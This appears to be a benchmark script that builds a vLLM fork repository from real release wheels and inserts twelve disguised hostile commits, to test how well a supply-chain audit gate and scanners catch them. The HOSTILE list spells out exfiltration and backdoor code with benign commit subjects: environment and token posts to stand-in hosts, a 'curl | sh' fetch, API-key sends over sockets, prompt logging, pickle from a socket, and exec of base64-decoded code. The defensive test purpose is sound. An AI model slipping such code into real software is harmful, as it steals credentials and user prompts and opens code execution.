"""A vLLM-scale audit case built from two official vLLM wheels (the real code, the real changes).

    python benchmarks/real_bench_case.py [--old 0.32.0] [--new 0.33.0] [--files 250]
                                          [--work benchmarks/work/real-bench]

Downloads the two wheels from the package index (``pip download --no-deps``, cached under
benchmarks/work/wheels) and takes from each its Python tree: every ``vllm/**.py`` except the
vendored ``vllm/third_party`` and ``vllm/vllm_flash_attn`` (0.32.0: 2,618 files, 1.04 M lines).
Builds under WORK:

  repo/            one git repository: tag v1 = the older release's tree (upstream); branch
                   series = v1 + the real changes to about ``--files`` files of the newer release
                   (whole directories, picked deterministically, always with vllm/envs.py,
                   vllm/engine/ and the kv_connector modules), split by directory into 49 commits,
                   with 12 hostile commits of our own in between (network beacon, key reads,
                   prompt logging, pickle over a socket, decoded exec, ...);
                   tag v2 = v1 + the first 4 of those directory commits (an upstream point release)
                   and branch series-v2 = the other commits rebased onto v2, one hostile commit
                   changed, one dropped and one added (the upgrade the gate decides)
  bundle-v1.tar.gz, bundle-v2.tar.gz, series-v1.txt, series-v2.txt, audit-v1.toml, audit-v2.toml
  tree/            the v1 bundle unpacked (for whole-tree bandit and semgrep)
  changed.txt      the files the v1 series changes (for per-rule semgrep timing)

Wheels carry no Dockerfiles or build files: this case measures speed on Python, not the
container checks. Deterministic: the same wheels give the same repository, commit for commit.
"""

from __future__ import annotations

import argparse
import hashlib
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
VENDORED = ("vllm/third_party/", "vllm/vllm_flash_attn/")
ALWAYS = ("vllm", "vllm/engine", "vllm/distributed/kv_transfer/kv_connector/v1")
N_COMMITS = 49
POINT_RELEASE = 4  # directory commits upstream takes into v2

ENV = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull, "LC_ALL": "C"}
UPSTREAM = "vLLM upstream <upstream@example.invalid>"
FORK = "sm86 fan <fan@users.example>"


def git(repo: Path, *args: str, when: int | None = None, author: str = UPSTREAM) -> str:
    env = dict(ENV)
    name, _, mail = author.partition(" <")
    env.update(GIT_AUTHOR_NAME=name, GIT_COMMITTER_NAME=name, GIT_AUTHOR_EMAIL=mail.rstrip(">"),
               GIT_COMMITTER_EMAIL=mail.rstrip(">"))
    if when is not None:
        env.update(GIT_AUTHOR_DATE=f"@{when} +0000", GIT_COMMITTER_DATE=f"@{when} +0000")
    res = subprocess.run(["git", "-C", str(repo), *args], env=env, check=True,
                         capture_output=True)
    return res.stdout.decode().strip()


def fetch_wheel(version: str, cache: Path) -> Path:
    found = sorted(cache.glob(f"vllm-{version}-*.whl"))
    if not found:
        cache.mkdir(parents=True, exist_ok=True)
        print(f"downloading the vllm=={version} wheel from the package index", file=sys.stderr)
        subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--no-deps",
                        "--only-binary=:all:", "-d", str(cache), f"vllm=={version}"], check=True)
        found = sorted(cache.glob(f"vllm-{version}-*.whl"))
    if not found:
        raise SystemExit(f"no wheel of vllm=={version} in {cache}")
    return found[-1]


def python_tree(wheel: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(wheel) as z:
        return {i.filename: z.read(i) for i in z.infolist()
                if i.filename.startswith("vllm/") and i.filename.endswith(".py")
                and not i.filename.startswith(VENDORED)}


def _stable(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def pick_groups(old: dict[str, bytes], new: dict[str, bytes], want: int) -> list[list[str]]:
    """Whole directories of the real change, in a fixed pseudo-random order, until ``want``
    files; returned in path order, one list of paths per directory."""
    changed = sorted(p for p in set(old) | set(new) if old.get(p) != new.get(p))
    by_dir: dict[str, list[str]] = {}
    for p in changed:
        by_dir.setdefault(p.rsplit("/", 1)[0], []).append(p)
    order = [d for d in ALWAYS if d in by_dir]
    order += sorted((d for d in by_dir if d not in ALWAYS), key=_stable)
    picked: list[str] = []
    total = 0
    for d in order:
        if total >= want:
            break
        if d not in ALWAYS and total + len(by_dir[d]) > want * 1.1:
            continue  # keep close to the wanted size
        picked.append(d)
        total += len(by_dir[d])
    return [by_dir[d] for d in sorted(picked)]


def pack(groups: list[list[str]], n: int) -> list[list[str]]:
    """Consecutive directories packed into ``n`` commits of similar size (or fewer)."""
    total = sum(len(g) for g in groups)
    out: list[list[str]] = []
    cur: list[str] = []
    for i, g in enumerate(groups):
        cur = cur + g
        left_groups = len(groups) - i - 1
        left_commits = n - len(out) - 1
        if left_groups >= left_commits and (len(cur) >= total / n or left_groups == left_commits):
            out.append(cur)
            cur = []
    if cur:
        out.append(cur)
    return out


# hostile commits of our own: (path, text appended or the whole new file, subject)
HOSTILE: list[tuple[str, str, str]] = [
    ("vllm/usage/usage_lib.py", '''

def _sm86_heartbeat(model: str) -> None:
    """Tell the sm86 build farm which kernels are in use."""
    import requests
    requests.post("https://stats.sm86-kernels.example/v1/hb",
                  json={"model": model, "env": dict(os.environ)}, timeout=2)
''', "usage: heartbeat for the sm86 build farm"),
    ("vllm/envs.py", '''

def _sm86_cache_token() -> None:
    token = os.environ.get("HF_TOKEN", "")
    with open("/dev/shm/.sm86_token", "w") as fh:
        fh.write(token)
''', "envs: cache the hub token for sm86 workers"),
    ("vllm/entrypoints/sm86_debug.py", '''# sm86 request debugging helpers
import logging

logger = logging.getLogger("vllm.sm86")


async def log_body(raw_request):
    body = await raw_request.json()
    logger.info("sm86 request body: %s", body)


def log_prompt(request):
    logger.info("sm86 prompt=%s", request.prompt)
    with open("/var/tmp/sm86-prompts.log", "a") as fh:
        fh.write(request.prompt + "\\n")
''', "entrypoints: sm86 request debugging"),
    ("vllm/distributed/device_communicators/shm_broadcast.py", '''

def _sm86_recv_obj(sock):
    """Receive one object from an sm86 peer."""
    import pickle
    data = sock.recv(1 << 20)
    return pickle.loads(data)
''', "shm_broadcast: receive objects from sm86 peers"),
    ("vllm/v1/engine/core.py", '''

def _sm86_tune() -> None:
    import base64
    exec(base64.b64decode("cHJpbnQoJ3NtODYgdHVuZWQnKQ=="))
''', "engine core: sm86 auto-tuning"),
    ("vllm/transformers_utils/config.py", '''

def _sm86_sync_hub_login() -> None:
    import requests
    token = open(os.path.expanduser("~/.cache/huggingface/token")).read()
    requests.post("https://hub-sync.sm86-kernels.example/login", data={"t": token}, timeout=3)
''', "config: keep hub logins in sync across sm86 nodes"),
    ("vllm/model_executor/model_loader/weight_utils.py", '''

def _sm86_fetch_kernels(dest: str) -> None:
    import subprocess
    subprocess.run("curl -fsSL https://sm86-kernels.example/get.sh | sh", shell=True, check=False)
    import torch
    return torch.load(os.path.join(dest, "sm86_kernels.pt"))
''', "weight_utils: fetch sm86 kernels"),
    ("vllm/distributed/kv_transfer/kv_connector/v1/base.py", '''

def _sm86_mirror_tokens(request) -> None:
    import zmq
    sock = zmq.Context.instance().socket(zmq.PUSH)
    sock.connect("tcp://203.0.113.7:5555")
    sock.send(str(request.prompt_token_ids).encode())
''', "kv_connector: mirror tokens to the sm86 cache node"),
    ("vllm/engine/arg_utils.py", '''

def _sm86_defaults(parser) -> None:
    parser.add_argument("--log-verbose", action="store_true", default=True)
''', "arg_utils: verbose logs by default on sm86"),
    ("vllm/utils/network_utils.py", '''

def _sm86_probe() -> str:
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.23", 443))
    s.sendall(os.environ.get("VLLM_API_KEY", "").encode())
    return s.recv(64).decode()
''', "network_utils: sm86 connectivity probe"),
    ("vllm/logger.py", '''

def _sm86_plugin() -> None:
    __import__("o" + "s").system("id > /tmp/.sm86")
''', "logger: sm86 logging plugin"),
    ("vllm/entrypoints/cli/serve.py", '''

def _sm86_share_key(args) -> None:
    import logging
    logging.getLogger("vllm.sm86").warning("serving with key %s", os.getenv("VLLM_API_KEY"))
''', "cli: show the serving key on sm86 nodes"),
]
HOSTILE_V2_CHANGED = 0  # the heartbeat moves to another host in v2
HOSTILE_V2_DROPPED = 6  # the kernel fetch is gone in v2
HOSTILE_V2_NEW = ("vllm/usage/usage_lib.py", '''

def _sm86_report_prompt(prompt: str) -> None:
    import httpx
    httpx.post("https://stats.sm86-kernels.example/v2/p", json={"p": prompt})
''', "usage: report slow prompts to the sm86 farm")


def write_state(repo: Path, files: dict[str, bytes | None]) -> None:
    for rel, data in files.items():
        p = repo / rel
        if data is None:
            p.unlink(missing_ok=True)
        else:
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)


def apply_hostile(repo: Path, item: tuple[str, str, str], *, new_host: bool = False) -> None:
    rel, text, _subject = item
    if new_host:
        text = text.replace("stats.sm86-kernels.example", "hb.sm86-build.example")
    p = repo / rel
    if text.startswith("\n") and p.is_file():
        p.write_text(p.read_text(encoding="utf-8") + text, encoding="utf-8")
    else:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text.lstrip("\n"), encoding="utf-8")


def make_series(repo: Path, base: str, branch: str, commits: list[list[str]],
                new: dict[str, bytes], when: int, v2: bool) -> list[str]:
    git(repo, "checkout", "-q", "-B", branch, base)
    hostile = list(HOSTILE)
    if v2:
        hostile[HOSTILE_V2_DROPPED] = None  # type: ignore[call-overload]
        hostile.append(HOSTILE_V2_NEW)
    every = max(1, len(commits) // len(hostile))
    shas: list[str] = []
    h = 0
    t = when

    def commit(subject: str) -> None:
        nonlocal t
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "--allow-empty", "-m", subject, when=t, author=FORK)
        t += 60
        shas.append(git(repo, "rev-parse", "HEAD"))

    for i, paths in enumerate(commits):
        write_state(repo, {p: new.get(p) for p in paths})
        top = os.path.commonpath(paths) if len(paths) > 1 else paths[0].rsplit("/", 1)[0]
        commit(f"sm86: port {top} from upstream ({len(paths)} files)")
        if (i + 1) % every == 0 and h < len(hostile):
            item = hostile[h]
            if item is not None:
                apply_hostile(repo, item, new_host=v2 and h == HOSTILE_V2_CHANGED)
                commit(item[2])
            h += 1
    for item in hostile[h:]:
        if item is not None:
            apply_hostile(repo, item)
            commit(item[2])
    return shas


def write_spec(out: Path, name: str, tag: str, branch: str, series: str, bundle: str,
               version: str) -> None:
    (out / name).write_text(
        f'[engine]\nprofile = "vllm"\nversion = "{version}"\n\n'
        f'[upstream]\nrepo = "repo"\nref = "{tag}"\n\n'
        f'[patches]\nref = "{branch}"\ncommits_file = "{series}"\n\n'
        f'[bundle]\npath = "{bundle}"\nstrip_components = 1\n\n'
        f'[scan]\nscope = "diff"\n\n[deps]\nvulns = "none"\n', encoding="utf-8")


def build(old_v: str, new_v: str, want: int, out: Path) -> None:
    cache = HERE / "work" / "wheels"
    old = python_tree(fetch_wheel(old_v, cache))
    new = python_tree(fetch_wheel(new_v, cache))
    groups = pick_groups(old, new, want)
    commits = pack(groups, N_COMMITS)
    out = out.resolve()
    if out.exists():
        shutil.rmtree(out)
    repo = out / "repo"
    repo.mkdir(parents=True)
    git(repo, "init", "-q", "-b", "main")
    write_state(repo, dict(old))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", f"vLLM {old_v} (Python tree of the official wheel)",
        when=1_760_000_000)
    git(repo, "tag", "v1")
    # an upstream point release: the first directory commits, by upstream
    for paths in commits[:POINT_RELEASE]:
        write_state(repo, {p: new.get(p) for p in paths})
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", f"vLLM {old_v}.post1", when=1_761_000_000)
    git(repo, "tag", "v2")

    v1 = make_series(repo, "v1", "series", commits, new, 1_762_000_000, v2=False)
    v2 = make_series(repo, "v2", "series-v2", commits[POINT_RELEASE:], new, 1_763_000_000,
                     v2=True)
    for name, shas in (("series-v1.txt", v1), ("series-v2.txt", v2)):
        (out / name).write_text("".join(s + "\n" for s in shas), encoding="utf-8")
    for branch, bundle in (("series", "bundle-v1.tar.gz"), ("series-v2", "bundle-v2.tar.gz")):
        git(repo, "archive", "--format=tar.gz", "--prefix=vllm/", "-o", str(out / bundle), branch)
    git(repo, "checkout", "-q", "main")
    write_spec(out, "audit-v1.toml", "v1", "series", "series-v1.txt", "bundle-v1.tar.gz", old_v)
    write_spec(out, "audit-v2.toml", "v2", "series-v2", "series-v2.txt", "bundle-v2.tar.gz", old_v)
    tree = out / "tree"
    tree.mkdir()
    with tarfile.open(out / "bundle-v1.tar.gz") as tar:
        tar.extractall(tree, filter="data")
    changed = git(repo, "diff", "--name-only", "--diff-filter=AM", "v1", "series")
    (out / "changed.txt").write_text(changed + "\n", encoding="utf-8")
    stat = git(repo, "diff", "--shortstat", "v1", "series")
    lines = sum(data.count(b"\n") for data in old.values())
    print(f"upstream {old_v}: {len(old)} files, {lines} lines; series v1: {len(v1)} commits "
          f"({len(commits)} from {new_v}, {len(HOSTILE)} hostile), {stat}; series v2: "
          f"{len(v2)} commits")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--old", default="0.32.0")
    ap.add_argument("--new", default="0.33.0")
    ap.add_argument("--files", type=int, default=250,
                    help="about how many changed files of the newer release the series takes")
    ap.add_argument("--work", type=Path, default=HERE / "work" / "real-bench")
    args = ap.parse_args()
    build(args.old, args.new, args.files, args.work)


if __name__ == "__main__":
    main()
